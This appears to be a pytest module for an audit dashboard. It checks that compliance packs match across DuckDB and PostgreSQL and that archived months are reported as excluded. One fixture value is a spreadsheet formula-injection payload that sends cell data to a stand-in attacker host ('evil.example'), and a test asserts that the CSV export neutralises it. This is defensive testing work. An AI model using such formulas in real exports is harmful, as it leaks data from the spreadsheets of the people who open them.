"""Compliance packs on both engines: the same pack tests on DuckDB and on PostgreSQL, and one pack of
the same events made on each, byte for byte.

One DuckDB store of demo data (with texts that test escaping: control characters, quotes,
backslashes, formulas, other scripts) is built once and copied into PostgreSQL with `auditdash
migrate`, so both stores hold the very same rows (sequence numbers, receipt times, hashes). The
tests parametrised by `backend` (module-scoped here: each store is built once) build packs from
one or the other; the comparison builds the same pack from both. A PostgreSQL store whose
period reaches archived months says in the pack which months it does not include.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from dashboard.access.users import Actor, create_user
from dashboard.config import Settings
from dashboard.demo import DemoSpec, generate
from dashboard.evidence.locations import Locations
from dashboard.filters import Filters
from dashboard.ingest.pipeline import Ingestor
from dashboard.packs import csvout, ndjson, view
from dashboard.packs.build import PackSettings, build_pack
from dashboard.packs.mail import SmtpConfig
from dashboard.packs.manifest import check_pack
from dashboard.packs.model import Control, PackCancelled, PackRequest, PackResult
from dashboard.packs.schedule import ScheduleRunner, parse_schedules
from dashboard.retention.policy import RetentionPolicy
from dashboard.retention.purge import run_purge
from dashboard.store.db import Database
from dashboard.store.schema import events
from tests.conftest import GEO_DIR, cli, event, sign_in
from tests.pg import PgServer
from tests.test_integrity import make_events
from tests.test_integrity import store as store_events

END = datetime(2026, 6, 30, tzinfo=UTC)
TZ = "Europe/Berlin"
JUNE = Filters.from_query({"from": "2026-06-20", "to": "2026-06-29", "tz": TZ})
#: texts JSON and CSV writers must escape alike on both engines
AWKWARD = {
    "reason": 'ctl \x01\x07\x0b\x0e\x1f end, tab\tnewline\nquote " backslash \\ slash / del \x7f',
    "actor_name": "Zoë Ørsted-Łukasz 日本語 \u2028 😀",
    "target_name": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "user_agent": "\\u0041 not an escape \\",
}


@dataclass
class Store:
    db: Database
    backend: str
    reports: Path


@pytest.fixture(scope="module", params=["duckdb", "postgres"])
def backend(request: pytest.FixtureRequest) -> str:
    """The engine (module-scoped here, so each store is built once)."""
    return str(request.param)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A home of its own (the keys and archive of a PostgreSQL store live there)."""
    path = tmp_path_factory.mktemp("packs-home")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("AUDITDASH_HOME", str(path))
        yield path


@pytest.fixture(scope="module")
def stores(home: Path, pg_server: PgServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Store]]:
    """The same events on DuckDB and on PostgreSQL (copied by `auditdash migrate`)."""
    tmp = tmp_path_factory.mktemp("packs-both")
    path = tmp / "audit.duckdb"
    batches, _truth = generate(DemoSpec(days=12, events=3_000, end=END))
    with Database(path) as db:
        ingestor = Ingestor(db, None)
        for batch in batches:
            ingestor.ingest_batch([(i, json.dumps(doc)) for i, doc in enumerate(batch)], "demo")
        awkward = event(
            id="awkward-1",
            occurred_at="2026-06-22T10:00:00.123Z",
            reason=AWKWARD["reason"],
            actor={"id": "u-zoe", "name": AWKWARD["actor_name"]},
            target={"type": "setting", "id": "t\x1f1", "name": AWKWARD["target_name"]},
            user_agent=AWKWARD["user_agent"],
            changes={"note": ["a\x01b", 'say "hi" \\ \u2028']},
            metadata={"k": "v\x0b", "n": 1.5, "deep": {"list": [1, None, True]}},
        )
        assert ingestor.ingest_batch([(0, json.dumps(awkward))], "file:awkward.ndjson").accepted == 1
    url = pg_server.create_database("packs_both")
    cli("migrate", "--from", str(path), "--to", url, "--json")
    opened = {"duckdb": Database(path), "postgres": Database(url)}
    try:
        for db in opened.values():  # a signing key: ZIP packs sign a checkpoint with it
            Locations.resolve(Settings(), db.path).load_signing_key(create=True)
        yield {name: Store(db, name, tmp / f"reports-{name}") for name, db in opened.items()}
    finally:
        for db in opened.values():
            db.close()


@pytest.fixture(scope="module")
def store(stores: dict[str, Store], backend: str) -> Store:
    return stores[backend]


def _request(filters: Filters, formats: tuple[str, ...], **extra: Any) -> PackRequest:
    values: dict[str, Any] = {"actor": Actor("cora", "compliance"), "role": "compliance", "now": END}
    values.update(extra)
    return PackRequest(filters=filters, formats=formats, **values)


def _settings(store: Store) -> PackSettings:
    return PackSettings(reports_dir=store.reports, organisation="Acme Support GmbH")


_BUILT: dict[tuple[str, str], PackResult] = {}


def _june_pack(store: Store) -> PackResult:
    """The ZIP pack (PDF, CSV, JSON, proof) of `JUNE`, built once per engine; its files unpacked."""
    key = (store.backend, "june")
    if key not in _BUILT:
        result = build_pack(store.db, _settings(store), _request(JUNE, ("zip",)))
        with zipfile.ZipFile(result.paths()[0]) as zf:
            zf.extractall(result.folder / "unpacked")
        _BUILT[key] = result
    return _BUILT[key]


def _file(result: PackResult, suffix: str) -> Path:
    if (result.folder / "unpacked").is_dir():
        return next(p for p in (result.folder / "unpacked").iterdir() if p.name.endswith(suffix))
    return next(p for p in result.paths() if p.name.endswith(suffix))


def _count(db: Database, filters: Filters) -> int:
    with db.connect() as conn:
        return int(conn.execute(sa.select(sa.func.count()).where(filters.where(events, END))).scalar_one())


def _pdf_text(path: Path) -> str:
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
    return " ".join(text.split())


# -- the same tests on both engines --------------------------------------------------------------
def test_a_pack_holds_exactly_the_filtered_events(store: Store) -> None:
    result = _june_pack(store)
    expected = _count(store.db, JUNE)
    assert result.events == expected > 500
    with _file(result, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == expected and [c.name for c in csvout.COLUMNS] == list(rows[0])
    seqs = [int(r["seq"]) for r in rows]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)
    awkward = next(r for r in rows if r["event_id"] == "awkward-1")
    assert awkward["reason"] == AWKWARD["reason"] and awkward["actor_name"] == AWKWARD["actor_name"]
    assert awkward["target_name"] == "'" + AWKWARD["target_name"]  # inert in a spreadsheet
    lines = _file(result, ".ndjson").read_text(encoding="utf-8").split("\n")
    assert lines[-1] == ""  # every line ends with a newline
    header = json.loads(lines[0])["auditdash_pack"]
    docs = [json.loads(line) for line in lines[1:-1]]
    assert header["counts"]["events"] == len(docs) == expected
    doc = next(d for d in docs if d["id"] == "awkward-1")
    assert doc["reason"] == AWKWARD["reason"] and doc["user_agent"] == AWKWARD["user_agent"]
    assert doc["changes"] == {"note": ["a\x01b", 'say "hi" \\ \u2028']}
    assert doc["occurred_at"] == "2026-06-22T10:00:00.123Z"
    manifest = result.manifest
    assert manifest["counts"]["csv_rows"] == manifest["counts"]["json_rows"] == expected
    assert manifest["proof"]["events"] == expected and "archived_not_included" not in manifest
    assert check_pack(result.folder) == []
    flat = _pdf_text(_file(result, ".pdf"))
    assert f"Events in this pack {expected:,}" in flat
    assert "2026-06-20 00:00 to 2026-06-30 00:00 (Europe/Berlin)" in flat
    # the proof an auditor checks offline: every event's hash, the batches, the chain, the signed checkpoint
    key = Locations.resolve(Settings(), store.db.path).public_key_path
    done = cli("verify-pack", str(result.paths()[0]), "--public-key", str(key), "--json", check=False)
    assert done.returncode == 0 and json.loads(done.stdout)["ok"] is True, done.stdout + done.stderr


def test_a_filter_and_a_time_zone(store: Store) -> None:
    logins = Filters.from_query(
        {"from": "2026-06-20", "to": "2026-06-29", "tz": "America/St_Johns", "categories": "authentication"}
    )
    result = build_pack(store.db, _settings(store), _request(logins, ("csv",)))
    with _file(result, ".csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == result.events == _count(store.db, logins) > 50
    assert {r["category"] for r in rows} == {"authentication"}
    assert {r["occurred_at"][-6:] for r in rows} == {"-02:30"}  # Newfoundland's summer time
    first = datetime.fromisoformat(rows[0]["occurred_at"])
    assert first == datetime.fromisoformat(rows[0]["occurred_at_utc"].replace("Z", "+00:00"))
    assert result.manifest["period"]["from"] == "2026-06-20T00:00:00-02:30"


def test_small_chunks_and_batches_stream_the_same_rows(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(view, "CHUNK_SEQ", 333)
    monkeypatch.setattr(view, "BATCH_ROWS", 50)
    again = build_pack(store.db, _settings(store), _request(JUNE, ("csv", "json")))
    whole = _june_pack(store)
    assert _file(again, ".csv").read_bytes() == _file(whole, ".csv").read_bytes()
    new_lines = _file(again, ".ndjson").read_bytes().split(b"\n")[1:]
    assert new_lines == _file(whole, ".ndjson").read_bytes().split(b"\n")[1:]


# -- the same events, the same bytes --------------------------------------------------------------
def test_the_same_events_give_the_same_files_on_both_engines(stores: dict[str, Store]) -> None:
    duck, pg = _june_pack(stores["duckdb"]), _june_pack(stores["postgres"])
    assert duck.events == pg.events > 500
    assert _file(duck, ".csv").read_bytes() == _file(pg, ".csv").read_bytes()
    duck_lines = _file(duck, ".ndjson").read_bytes().split(b"\n")
    pg_lines = _file(pg, ".ndjson").read_bytes().split(b"\n")
    assert duck_lines[1:] == pg_lines[1:]
    moving = ("pack_id", "generated_at", "generated_at_local", "snapshot_seq")
    headers = [
        {k: v for k, v in json.loads(lines[0])["auditdash_pack"].items() if k not in moving}
        for lines in (duck_lines, pg_lines)
    ]
    assert headers[0] == headers[1]
    texts = [_pdf_text(_file(r, ".pdf")) for r in (duck, pg)]
    labels = ("Events in this pack", "Failed logins", "Account lockouts", "Source addresses", "Configuration changes")
    for label in labels:
        said = [t.split(label, 1)[1].split()[0] for t in texts]
        assert said[0] == said[1], (label, said)


def test_streamed_columns_have_the_same_types_on_both_engines(stores: dict[str, Store]) -> None:
    schemas = []
    for name in ("duckdb", "postgres"):
        with view.open_view(stores[name].db, JUNE, END) as v:
            cols = [col.expr(v.view.segments).label(col.name) for col in csvout.COLUMNS]
            first = next(v.stream([*cols, *ndjson.read_columns()], batch_rows=10))
            schemas.append(first.schema)
    assert schemas[0] == schemas[1]


# -- archived months on PostgreSQL: said in the pack, never left out silently -----------------------
PURGED_AT = datetime(2026, 11, 20, 12, 0)  # hot cutoff 2026-08-01: May, June and July are archived
ADMIN = Actor("ana.admin", "admin")
SUMMER = Filters.from_query({"from": "2026-06-01", "to": "2026-08-31", "tz": "UTC"})
PASSWORD = "packs-on-postgres-password"


@dataclass
class Archived:
    db: Database
    url: str
    docs: list[dict[str, Any]]
    reports: Path


@pytest.fixture(scope="module")
def archived(home: Path, pg_server: PgServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archived]:
    """A PostgreSQL store of 240 events from May to October 2026 whose May to July retention archived."""
    url = pg_server.create_database("packs_archived")
    docs = make_events(240, datetime(2026, 5, 1), datetime(2026, 11, 1))
    db = Database(url)
    try:
        store_events(db, docs, batch=60, now=PURGED_AT)
        moved = run_purge(db, Locations.resolve(Settings(), db.path), RetentionPolicy(), ADMIN, now=PURGED_AT)
        assert moved.written == ["2026-05", "2026-06", "2026-07"]
        create_user(db, "cora", "compliance", PASSWORD)
        yield Archived(db, url, docs, tmp_path_factory.mktemp("archived-reports"))
    finally:
        db.close()


def _in(docs: list[dict[str, Any]], start: str, end: str) -> int:
    return sum(1 for d in docs if start <= d["occurred_at"] < end)


def test_a_postgres_pack_names_the_archived_months_it_does_not_include(archived: Archived) -> None:
    settings = PackSettings(reports_dir=archived.reports, settings=Settings())
    request = _request(SUMMER, ("pdf", "csv", "json"), now=PURGED_AT.replace(tzinfo=UTC))
    result = build_pack(archived.db, settings, request)
    august = _in(archived.docs, "2026-08", "2026-09")
    left_out = _in(archived.docs, "2026-06", "2026-08")
    assert result.events == august > 0  # the hot months only
    restore = "auditdash archive restore --from 2026-06-01 --to 2026-07-31"
    said = {"events": left_out, "months": ["2026-06", "2026-07"], "included": False, "restore": restore}
    assert result.manifest["archived_not_included"] == said
    header = json.loads(_file(result, ".ndjson").read_text(encoding="utf-8").splitlines()[0])["auditdash_pack"]
    assert header["archived_not_included"] == said and "from_archive" not in header
    flat = _pdf_text(_file(result, ".pdf"))
    assert f"Not included {left_out:,} events of this view are in archived months (2026-06 to 2026-07)" in flat
    assert restore in flat
    # the command line says it too; restored, the months are in the pack
    report = ["report", "--db", archived.url, "--from", "2026-06-01", "--to", "2026-08-31", "--tz", "UTC"]
    out = ["--format", "csv", "--out", str(archived.reports)]
    words = cli(*report, *out).stdout
    assert f"NOT included: {left_out:,} events of this view in archived months (2026-06, 2026-07)" in words
    assert restore in words
    cli(*restore.split()[1:], "--db", archived.url)
    again = json.loads(cli(*report, *out, "--json").stdout)
    assert again["events"] == august + left_out and "archived_not_included" not in again


def _login(app: Any, username: str) -> Any:
    return sign_in(app.server, username, PASSWORD)


def _callback(app: Any, client: Any, function: Any, inputs: list[Any], state: list[Any]) -> Any:
    """Send the request Dash sends for the callback `function` with these values."""
    key, entry = next(
        (k, e) for k, e in app.callback_map.items() if getattr(e.get("callback"), "__wrapped__", None) is function
    )
    body = {
        "output": key,
        "outputs": [
            {"id": part.rsplit(".", 1)[0], "property": part.rsplit(".", 1)[1]}
            for part in (key[2:-2].split("...") if key.startswith("..") else [key])
        ],
        "inputs": [{**dep, "value": value} for dep, value in zip(entry["inputs"], inputs, strict=True)],
        "state": [{**dep, "value": value} for dep, value in zip(entry["state"], state, strict=True)],
        "changedPropIds": [f"{entry['inputs'][0]['id']}.{entry['inputs'][0]['property']}"],
    }
    reply = client.post(
        "/_dash-update-component", json=body, headers={"X-CSRFToken": client.get_cookie("_csrf_token").value}
    )
    assert reply.status_code == 200, reply.get_data(as_text=True)
    return reply.get_json()["response"]


def test_the_report_pages_pack_and_a_scheduled_pack_on_postgres(archived: Archived, tmp_path: Path) -> None:
    import dash

    from dashboard.web.app import create_app
    from dashboard.web.packs import SERVICE_KEY, submit_and_wait

    settings = Settings(db_path=archived.url, geo_dir=GEO_DIR, reports_dir=tmp_path / "reports")
    app = create_app(settings, archived.db)
    client = _login(app, "cora")
    report = sys.modules[next(p["module"] for p in dash.page_registry.values() if p["path"] == "/report")]
    august = Filters.from_query({"from": "2026-08-01", "to": "2026-08-31", "tz": "Europe/Berlin"})
    # what the page says of a view that reaches archived months, then the pack of August it builds
    # (May stays archived: the test above restored June and July)
    spring = Filters.from_query({"from": "2026-05-01", "to": "2026-08-31", "tz": "UTC"})
    said = json.dumps(_callback(app, client, report._describe, [spring.to_store()], []))
    assert f"{_in(archived.docs, '2026-05', '2026-06'):,} events of this view are in archived months (2026-05)" in said
    assert "are NOT included" in said and "auditdash archive restore --from 2026-05-01 --to 2026-05-31" in said
    anchor = {"filters": august.to_store(), "now": "2026-11-20T12:00:00+00:00"}
    answer = _callback(app, client, report._generate, [1], [august.to_store(), None, ["csv"], anchor])
    job_id = answer[report.JOB]["data"]
    service = app.server.extensions[SERVICE_KEY]
    job = service.get(job_id)
    assert job is not None and job.finished.wait(120), job
    assert job.result is not None, job.error
    pack = job.result
    expected = _count(archived.db, august)
    assert pack.events == expected > 0
    csv_name = next(p.name for p in pack.paths() if p.name.endswith(".csv"))
    download = client.get(f"/report/download/{pack.pack_id}/{csv_name}")
    assert download.status_code == 200
    text = download.get_data().decode("utf-8-sig")
    download.close()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == expected and {r["occurred_at"][-6:] for r in rows} == {"+02:00"}
    # a scheduled pack through the same queue: the monthly pack of May, archived, says so
    schedules = parse_schedules("monthly@06:00 formats=csv tz=UTC to=audit@acme.example")
    runner = ScheduleRunner(
        schedules, settings.reports_dir, lambda r: submit_and_wait(service, r, 120), SmtpConfig(), service.manifest
    )
    runner.tick(datetime(2026, 6, 1, 7, 0, tzinfo=UTC))
    state = runner.book().schedules["monthly"]
    assert state.last_period == "2026-05" and state.last_pack, state
    manifest = service.manifest(state.last_pack)
    assert manifest["schedule"] == "monthly" and manifest["counts"]["events"] == 0
    assert manifest["archived_not_included"]["months"] == ["2026-05"]
    assert manifest["archived_not_included"]["events"] == _in(archived.docs, "2026-05", "2026-06")


def test_cancelling_mid_stream_leaves_no_files_and_the_store_usable(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(view, "BATCH_ROWS", 100)  # cancelled while the rows are still coming

    def progress(stage: str, _fraction: float) -> None:
        if stage.startswith("CSV"):
            control.cancel()

    control = Control(progress)
    store.reports.mkdir(parents=True, exist_ok=True)
    before = set(store.reports.iterdir())
    with pytest.raises(PackCancelled):
        build_pack(store.db, _settings(store), _request(JUNE, ("csv", "json")), control)
    assert set(store.reports.iterdir()) == before
    after = build_pack(store.db, _settings(store), _request(JUNE, ("json",)))  # the connection is fine again
    assert after.events == _june_pack(store).events


def test_stored_json_no_reader_can_copy_is_read_alike_on_both_engines(
    pg_server: PgServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stored `changes` / `metadata` texts that are not plainly strict JSON (tests/test_hostile_read.py),
    written behind auditdash's back into the same events on both engines: the same placeholders,
    the same bytes."""
    from tests.test_hostile_read import CLEAN_METADATA, NAN_TEXT, NAN_VALUE, POISON, strict

    # a home of its own: the stores of one home share its archive folder (the one above has archived months)
    monkeypatch.setenv("AUDITDASH_HOME", str(tmp_path / "home"))
    names = [*POISON, "nan-meta", "ok-1"]
    docs = [
        event(id=name, occurred_at=f"2026-05-{10 + i:02d}T10:00:00Z", action="agent.update", metadata=CLEAN_METADATA)
        for i, name in enumerate(names)
    ]
    path = tmp_path / "poisoned.duckdb"
    with Database(path) as db:
        assert Ingestor(db, None).ingest_batch([(i, json.dumps(d)) for i, d in enumerate(docs)], "test").accepted == 7
    url = pg_server.create_database("packs_poisoned")
    cli("migrate", "--from", str(path), "--to", url)
    may = Filters.from_query({"from": "2026-05-01", "to": "2026-05-31", "tz": TZ})
    files: list[tuple[bytes, list[bytes]]] = []
    for target in (path, url):
        with Database(target) as db:
            with db.engine.begin() as conn:
                for name, (column, text, _) in POISON.items():
                    conn.execute(sa.update(events).where(events.c.event_id == name).values({column: text}))
                conn.execute(sa.update(events).where(events.c.event_id == "nan-meta").values(metadata=NAN_TEXT))
            result = build_pack(db, PackSettings(reports_dir=tmp_path / "r"), _request(may, ("csv", "json")))
            files.append((_file(result, ".csv").read_bytes(), _file(result, ".ndjson").read_bytes().split(b"\n")[1:]))
    assert files[0] == files[1]
    docs_out = {d["id"]: d for d in map(strict, filter(None, files[1][1]))}
    for name, (column, _text, reason) in POISON.items():
        assert reason in docs_out[name][column]["_unreadable"], name
    assert docs_out["nan-meta"]["metadata"] == NAN_VALUE and docs_out["ok-1"]["metadata"] == CLEAN_METADATA
